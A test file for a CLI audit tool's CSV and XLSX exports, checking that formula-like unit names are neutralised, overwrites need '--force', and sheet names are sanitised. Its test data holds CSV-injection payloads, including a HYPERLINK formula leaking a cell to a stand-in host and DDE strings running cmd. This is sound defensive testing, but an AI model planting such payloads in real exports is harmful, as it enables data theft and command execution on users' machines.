/**
 * Exports a spreadsheet opens safely: unit names that start like a formula (`=HYPERLINK(…)`,
 * `+`, `-`, `@`, a tab, a carriage return) stay text in `audit --csv` and `--xlsx` (OWASP's CSV
 * injection advice), numbers stay numbers, and `--xlsx` replaces an existing file only with
 * `--force`.
 */
import path from 'node:path';
import os from 'node:os';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { openLedger } from '../../ledger';
import { writeXlsx } from '../../ledger/report';
import type { Table } from '../../ledger/table';
import { runCli } from '../helpers/processes';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];
const TRIGGER = /^[=+\-@\t\r]/;

const cli = async (...args: string[]): Promise<{ code: number; out: string }> => {
  const r = await runCli(['audit', ...args]);
  return { code: r.code, out: `${r.stdout}${r.stderr}` };
};

describe('exports with hostile unit names', () => {
  let dir: string;
  let url: string;
  beforeAll(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'export-safety-'));
    url = `sqlite:${path.join(dir, 'ledger.sqlite')}`;
    const l = await openLedger(url);
    await l.upsertUnits(
      HOSTILE.map((name, i) => ({ campaignId: 'c', unitId: `b${i}`, name, level: 'branch', committeeId: 'c1' })),
    );
    await l.recordMany(
      HOSTILE.map((_, i) => ({
        campaignId: 'c',
        id: `open-${i}`,
        kind: 'deadline-opened',
        unitId: `b${i}`,
        obligationKey: 'report',
        cycleKey: '2010-Q3',
        committeeId: 'c1',
        at: '2010-09-01T00:00:00.000Z',
        dueAt: '2010-09-25T15:59:59.000Z',
      })),
    );
    await l.close();
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const common = (): string[] => [
    '--ledger',
    url,
    '--campaign',
    'c',
    '--report',
    'lagging',
    '--as-of',
    '2011-01-01T00:00:00Z',
  ];

  it('CSV: every such cell starts with an apostrophe and keeps its text', async () => {
    const r = await cli(...common(), '--csv');
    expect(r.code).toBe(0);
    const rows: string[][] = parse(r.out.replace(/^\uFEFF/, ''), { relax_column_count: true });
    const names = rows.slice(1).map((row) => row[1]!); // below the header row
    expect(names.sort()).toEqual(HOSTILE.map((n) => `'${n}`).sort());
    for (const cell of rows.flat()) expect(cell).not.toMatch(TRIGGER);
  });

  it('XLSX: no formula, every such cell text with an apostrophe, numbers still numbers', async () => {
    const file = path.join(dir, 'audit.xlsx');
    expect((await cli(...common(), '--xlsx', file)).code).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets[0]!;
    const names: string[] = [];
    ws.eachRow((row, n) => {
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(TRIGGER);
      });
      if (n > 2) {
        names.push(row.getCell(2).text);
        expect(typeof row.getCell(5).value).toBe('number'); // 应交次数
      }
    });
    // XML keeps no bare carriage return: the workbook reads it back as a line feed.
    expect(names.sort()).toEqual(HOSTILE.map((n) => `'${n.replace('\r', '\n')}`).sort());
  });

  it('--xlsx refuses to replace an existing file without --force', async () => {
    const file = path.join(dir, 'plan.yaml');
    writeFileSync(file, 'id: precious\n');
    const refused = await cli(...common(), '--xlsx', file);
    expect(refused.code).toBe(1);
    expect(refused.out).toContain(`error [EXPORT_EXISTS]: ${file} exists already; pass --force to overwrite it`);
    expect(readFileSync(file, 'utf8')).toBe('id: precious\n');
    expect((await cli(...common(), '--xlsx', file, '--force')).code).toBe(0);
    expect(readFileSync(file).subarray(0, 2).toString()).toBe('PK'); // now a workbook (a zip)
  });

  it('XLSX: a unit name with / \\ [ ] ? * : makes a sheet name Excel takes, unique and at most 31 long', async () => {
    // The unit report's title holds the unit's name: ExcelJS threw on these characters, and audit crashed.
    const table = (title: string): Table => ({
      name: 'unit',
      locale: 'zh',
      title,
      headers: ['单位'],
      rows: [[title]],
      records: [],
    });
    const titles = [
      '单位报送明细：机械/电子[联合]党支部?*',
      '单位报送明细：机械/电子[联合]党支部?*', // the same unit twice: Excel wants distinct names
      "'a:b\\c'",
      'Unit report: a very long branch name, longer than thirty-one',
      'unit report: A VERY LONG BRANCH NAME, LONGER THAN THIRTY-ONE', // equal but for case
    ];
    const file = path.join(dir, 'sheet-names.xlsx');
    await writeXlsx(titles.map(table), file);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const names = wb.worksheets.map((w) => w.name);
    expect(names).toEqual([
      '单位报送明细：机械_电子_联合_党支部__', // a full-width colon is no ASCII ':'
      '单位报送明细：机械_电子_联合_党支部__ (2)',
      'a_b_c',
      'Unit report_ a very long branch',
      'unit report_ A VERY LONG BR (2)',
    ]);
    for (const n of names) expect(n.length).toBeLessThanOrEqual(31);
    // Each sheet still carries its report's full title in its first row.
    expect(wb.worksheets.map((w) => w.getRow(1).getCell(1).text)).toEqual(titles);
  });
});
